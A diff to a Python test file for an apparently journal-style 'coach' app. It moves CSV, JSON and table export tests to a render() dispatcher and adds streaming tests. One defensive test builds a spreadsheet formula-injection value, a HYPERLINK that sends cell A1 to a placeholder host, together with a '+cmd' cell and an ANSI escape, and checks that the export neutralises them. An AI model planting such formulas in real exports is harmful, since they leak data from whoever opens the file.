@@ -9,7 +9,7 @@ import json
 
 import pytest
 
-from coach.outputs.export import render, to_csv, to_json, to_table
+from coach.outputs.export import render
 from tests.snapshots.apps.journal_data import pack, record
 
 PACK = pack()
@@ -33,7 +33,7 @@ SESSIONS = [
 
 
 def test_json_is_a_list_of_objects_oldest_first() -> None:
-    data = json.loads(to_json(SESSIONS, PACK))
+    data = json.loads(render("json", SESSIONS, PACK))
     assert [row["date"] for row in data] == ["2026-01-05", "2026-01-07", "2026-01-09", "2026-01-10"]
     first = data[0]
     assert first["kind"] == "session" and first["started"] == "2026-01-05T09:00:00+01:00"
@@ -50,7 +50,7 @@ def test_json_is_a_list_of_objects_oldest_first() -> None:
 
 
 def test_csv_round_trips_with_a_column_per_question() -> None:
-    rows = list(csv.DictReader(io.StringIO(to_csv(SESSIONS, PACK))))
+    rows = list(csv.DictReader(io.StringIO(render("csv", SESSIONS, PACK))))
     assert list(rows[0]) == [
         "date",
         "time",
@@ -79,14 +79,14 @@ def test_csv_cells_cannot_become_spreadsheet_formulas() -> None:
     evil = record(dt.date(2026, 1, 5), notes='=HYPERLINK("http://x?"&A1)')._replace(
         protocol_title="+cmd"
     )
-    row = next(csv.DictReader(io.StringIO(to_csv([evil], PACK))))
+    row = next(csv.DictReader(io.StringIO(render("csv", [evil], PACK))))
     assert row["notes"].startswith("'=") and row["protocol"] == "'+cmd"
-    assert json.loads(to_json([evil], PACK))[0]["notes"].startswith("=")  # JSON stays exact
+    assert json.loads(render("json", [evil], PACK))[0]["notes"].startswith("=")  # JSON stays exact
 
 
 def test_table_is_aligned_and_safe_for_a_terminal() -> None:
     noisy = record(dt.date(2026, 1, 11), notes="\x1b[2J cleared? " + "long " * 20)
-    lines = to_table([*SESSIONS, noisy], PACK).splitlines()
+    lines = render("table", [*SESSIONS, noisy], PACK).splitlines()
     assert lines[0].split() == [
         "Date",
         "Protocol",
@@ -115,17 +115,17 @@ def test_table_is_aligned_and_safe_for_a_terminal() -> None:
 
 def test_every_pack_named_with_all_packs() -> None:
     theirs = record(dt.date(2026, 1, 6), level="other-size")._replace(pack_id="pelvic")
-    data = json.loads(to_json([*SESSIONS, theirs], PACK, all_packs=True))
+    data = json.loads(render("json", [*SESSIONS, theirs], PACK, all_packs=True))
     assert [row["pack"] for row in data][:2] == ["test-pack", "pelvic"]
     assert data[1]["level"] == "other-size" and data[1]["counts"] is None  # not judged here
-    table = to_table([*SESSIONS, theirs], PACK, all_packs=True).splitlines()
+    table = render("table", [*SESSIONS, theirs], PACK, all_packs=True).splitlines()
     assert table[0].split()[0] == "Pack" and table[3].startswith("pelvic")
 
 
 def test_without_a_programme_levels_show_their_ids() -> None:
-    data = json.loads(to_json(SESSIONS[:1], None))
+    data = json.loads(render("json", SESSIONS[:1], None))
     assert data[0]["level"] == "size-2"
-    assert to_table(SESSIONS[:1], None).splitlines()[0].split()[2] == "Level"
+    assert render("table", SESSIONS[:1], None).splitlines()[0].split()[2] == "Level"
 
 
 def test_render_dispatches_and_rejects_unknown_formats() -> None:
@@ -133,3 +133,22 @@ def test_render_dispatches_and_rejects_unknown_formats() -> None:
     assert render("csv", [], PACK).startswith("date,time,protocol,size")
     with pytest.raises(ValueError):
         render("xml", [], PACK)
+
+
+@pytest.mark.parametrize("count", [0, 1, 4])
+def test_streamed_json_is_exactly_one_dump_of_the_whole_list(count: int) -> None:
+    from coach.outputs.export import activity_rows, rows
+
+    sessions = SESSIONS[:count]
+    whole = json.dumps(rows(sessions, PACK) + activity_rows([]), indent=2, ensure_ascii=False)
+    assert render("json", sessions, PACK) == whole + "\n"
+
+
+@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
+def test_each_format_comes_a_piece_at_a_time(fmt: str) -> None:
+    from coach.outputs.export import iter_render
+
+    pieces = list(iter_render(fmt, SESSIONS, PACK))
+    # a header (or the opening bracket) and then every session on its own: written as made
+    assert len(pieces) >= len(SESSIONS) + 1
+    assert "".join(pieces) == render(fmt, SESSIONS, PACK)
